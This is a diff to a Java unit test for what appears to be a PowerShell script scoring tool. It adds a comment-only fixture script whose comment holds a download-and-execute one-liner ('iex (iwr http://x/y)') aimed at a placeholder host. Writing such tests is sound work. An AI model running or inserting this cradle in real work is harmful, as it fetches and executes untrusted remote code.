@@ -75,11 +75,13 @@ class ScriptBlockScoreTest {
         Path p = Files.createDirectories(dir.resolve("kit/Shells"));
         Files.writeString(p.resolve("Start-Back.ps1"), SHELL);
         Files.writeString(dir.resolve("kit/Get-Tidy.ps1"), TIDY);
+        Files.writeString(dir.resolve("kit/OneLiner.ps1"), "<#\n.SYNOPSIS\nA one-liner kept in its help.\n#>\n# iex (iwr http://x/y)\n");
         Files.writeString(dir.resolve("kit/manifest-1.jsonl"), "{\"project\":\"kit\",\"path\":\"Shells/Start-Back.ps1\"}\n\n"
-                + "{\"project\":\"kit\",\"path\":\"Get-Tidy.ps1\"}\n{\"project\":\"kit\",\"path\":\"Get-Tidy.ps1\"}\n");
+                + "{\"project\":\"kit\",\"path\":\"Get-Tidy.ps1\"}\n{\"project\":\"kit\",\"path\":\"Get-Tidy.ps1\"}\n"
+                + "{\"project\":\"kit\",\"path\":\"OneLiner.ps1\"}\n");
         List<ScriptBlockScore.Script> s = ScriptBlockScore.scripts(dir);
         assertEquals(List.of("kit/Shells/Start-Back.ps1", "kit/Get-Tidy.ps1"), s.stream().map(ScriptBlockScore.Script::key).toList(),
-                "a path listed twice is one script");
+                "a path listed twice is one script, a script of comments only none");
         Files.writeString(dir.resolve("kit/manifest-2.jsonl"), "{\"project\":\"kit\",\"path\":\"Missing.ps1\"}\n");
         IllegalStateException e = assertThrows(IllegalStateException.class, () -> ScriptBlockScore.scripts(dir));
         assertTrue(e.getMessage().contains("manifest-2.jsonl:1"), e.getMessage());
